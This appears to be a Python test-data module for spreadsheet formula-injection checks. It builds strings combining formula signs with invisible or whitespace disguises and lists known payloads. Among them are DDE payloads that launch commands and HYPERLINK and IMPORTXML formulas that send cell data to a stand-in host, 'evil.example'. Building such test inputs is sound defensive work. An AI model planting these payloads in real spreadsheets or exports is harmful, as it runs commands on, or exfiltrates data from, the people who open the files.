"""Category 12: what Excel, LibreOffice or Google Sheets take for a formula, however it is disguised."""

from collections.abc import Iterator
from itertools import product

SIGNS = ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "｜", "％")
DISGUISES = ("", " ", "\u3000", "\t", "\u200b", "\ufeff", "'", '"', "\u00a0", "\n", ";", ",")
FORMULAS = (
    *(
        "=cmd|'/c calc'!A0",
        '=HYPERLINK("http://evil.example?x="&A1,"開く")',
        '=IMPORTXML("http://evil.example","//a")',
        "=A1*2",
    ),
    *(
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "=1+1",
        "+1+1",
        '=DDE("cmd";"/C calc";"x")',
        "%0A=1+1",
    ),
    *(
        '"=1+1"',
        "a,=1+1",
        "a;=1+1",
        "a\t=1+1",
        '";=1+1',
        '""",=1+1',
        "=-1",
        '="a"',
        "==1",
        "=SUM(1)",
        "+81-3-5309-2065",
    ),
    *(
        "-5",
        "−5℃",
        "+α",
        "=) 顔文字",
        "@home",
        "-",
        "--",
        "−−",
        "1-1",
        "(=1)",
        "$A$1",
        "#REF!",
        "#N/A",
        "{=1}",
        "TRUE",
        "1E5",
    ),
)


def texts() -> Iterator[str]:
    """Yield each sign behind each disguise, and formulas that were seen in the wild."""
    for disguise, sign in product(DISGUISES, SIGNS):
        yield f"{disguise}{sign}1+1"
    for formula in FORMULAS:
        yield from (formula, f" {formula}", f"看護師{formula}")
